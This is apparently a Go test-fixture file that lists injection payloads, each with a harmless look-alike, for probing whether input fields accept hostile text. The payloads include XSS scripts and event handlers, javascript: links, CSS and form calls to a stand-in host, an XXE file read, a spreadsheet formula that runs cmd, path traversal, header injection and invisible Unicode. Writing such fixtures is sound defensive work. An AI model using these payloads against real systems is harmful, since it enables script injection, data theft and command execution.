package hostile

import "strings"

// payload is something that somebody could write into a field, to do there what no
// text does. T stands for a word of its own, by which it is known again.
type payload struct{ sort, text string }

// of is the payload with its own word.
func (p payload) of(token string) string { return strings.ReplaceAll(p.text, "T", token) }

// harmless is text of the same kinds of signs and as wide, that does nothing anywhere.
func (p payload) harmless(token string) string {
	return strings.ReplaceAll(strings.Map(func(r rune) rune {
		switch {
		case r == 'T', r == ' ', r == '\n', '0' <= r && r <= '9':
			return r
		case r < 0x80:
			return 'x'
		}
		return '字'
	}, p.text), "T", token)
}

// payloads are all that are tried in each field. None has a figure in it, which
// would be refused for that alone.
var payloads = []payload{
	{"script", `<script>hit("T")</script>`},
	{"script", `</script><script>hit("T")</script>`},
	{"script", `</title></style></textarea></noscript></svg><script>hit("T")</script>`},
	{"script", `<scr<script>ipt>hit("T")</script>`},
	{"script", `<script src=//T.example></script>`},
	{"script", `&lt;script&gt;hit("T")&lt;/script&gt;`},
	{"script", `&#60;script&#62;hit("T")`},
	{"script", `%3Cscript%3Ehit("T")`},
	{"script", `＜script＞hit("T")＜/script＞`},
	{"script", `\u003cscript\u003ehit("T")`},
	{"script", `${hit("T")}`},
	{"script", "`${hit('T')}`"},
	{"script", `";hit("T");//`},
	{"script", `';hit('T');//`},
	{"script", `\";hit("T");//`},
	{"handler", `"><img src=x onerror=hit("T")>`},
	{"handler", `'><img src=x onerror=hit('T')>`},
	{"handler", `" onmouseover="hit('T')" autofocus onfocus="hit('T')`},
	{"handler", `x onclick=hit("T") y`},
	{"handler", `<b onclick=hit("T")>`},
	{"handler", `<details open ontoggle=hit("T")>`},
	{"handler", `<math><mtext><table><mglyph><style><img src onerror=hit("T")>`},
	{"handler", `<form action=//T.example><input name=x><button>`},
	{"handler", `<iframe srcdoc="<script>parent.hit('T')</script>">`},
	{"handler", `<base href=//T.example/>`},
	{"handler", `<meta http-equiv=refresh content="0;url=//T.example">`},
	{"link", `javascript:hit("T")`},
	{"link", `JaVaScRiPt:hit("T")`},
	{"link", `&#106;avascript:hit("T")`},
	{"link", `java&Tab;script:hit("T")`},
	{"link", "java\nscript:hit(\"T\")"},
	{"link", `ｊａｖａｓｃｒｉｐｔ：hit("T")`},
	{"link", `vbscript:hit("T")`},
	{"link", `data:text/html,<script>hit("T")</script>`},
	{"link", `//T.example/`},
	{"link", `\\T.example\x`},
	{"link", `https:T.example`},
	{"link", `https://T.example/`},
	{"link", `https://a@T.example:99/?<">`},
	{"css", `<style>@import "//T.example"</style>`},
	{"css", `" style="background:url(//T.example/)`},
	{"css", `red;background:url(//T.example/)`},
	{"css", `}</style><style>*{background:url(//T.example)}`},
	{"css", `expression(hit("T"))`},
	{"svg", `<svg onload=hit("T")>`},
	{"svg", `<svg><script>hit("T")</script></svg>`},
	{"svg", `<svg><use href="data:image/svg+xml,T"/></svg>`},
	{"svg", `<svg><foreignObject><iframe src=//T.example>`},
	{"xml", `]]><entry>T</entry>`},
	{"xml", `<!--T`},
	{"xml", `-->T<!--`},
	{"xml", `--!><img src=x onerror=hit("T")>`},
	{"xml", `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///T">]>&y;`},
	{"xml", `<?xml-stylesheet href="//T.example"?>`},
	{"template", `{{T}}`},
	{"template", `{{ .T }}{{define "x"}}`},
	{"template", `<% T %>[[T]]`},
	{"formula", `=HYPERLINK("//T.example")`},
	{"formula", `=cmd|'/c T'!A`},
	{"formula", `+T`},
	{"formula", `-T`},
	{"formula", `@SUM(T)`},
	{"formula", "\t=T"},
	{"formula", "\n=T"},
	{"formula", `＝T`},
	{"formula", `T,=T;=T`},
	{"formula", `T","=T`},
	{"formula", `'=T`},
	{"formula", `=T`},
	{"path", `../../../T`},
	{"path", `/etc/T`},
	{"path", `..\..\T`},
	{"path", `C:\T`},
	{"path", `file:///T`},
	{"path", `%2e%2e%2fT`},
	{"path", `..%c0%afT`},
	{"path", `T.`},
	{"path", `T/../..`},
	{"path", `con`},
	{"path", `NUL.T`},
	{"path", `T:stream`},
	{"path", `T?x#y`},
	{"header", "T\nSet-Cookie: a=T"},
	{"header", "T; filename=x.exe"},
	{"header", "T\"; add_header x T; #"},
	{"header", "T}\nlocation / { return 200; }"},
	{"object", `constructor`},
	{"object", `__proto__`},
	{"short", `<b>T`},
	{"short", `<T>`},
	{"short", `&T;`},
	{"short", `&lt;T`},
	{"short", `T\`},
	{"short", `%T%`},
	{"short", `T|T`},
	{"short", "T`"},
	{"hidden", "T\u202exT"},
	{"hidden", "T\u2066x\u2069"},
	{"hidden", "T\u200eT"},
	{"hidden", "T\u200bT"},
	{"hidden", "T\u200dT"},
	{"hidden", "T\u00adT"},
	{"hidden", "T\ufeffT"},
	{"hidden", "T\u2028hit()"},
	{"hidden", "T\u2029hit()"},
	{"hidden", "T\u0085T"},
	{"hidden", "T\x00T"},
	{"hidden", "T\x1b[2J"},
	{"hidden", "T\x07"},
	{"hidden", "\x01javascript:hit('T')"},
	{"hidden", "T\U000e0041"},
	{"hidden", "T\u3164"},
	{"alike", "T\u05d0T"},
	{"alike", "T𝟕𝟎T"},
	{"alike", "T\u0663"},
	{"alike", "\u0430ctionT"},
	{"alike", "1\u0336T"},
}

// Those of sorts that no field takes, whatever it is.
var neverTaken = []string{"hidden", "alike"}
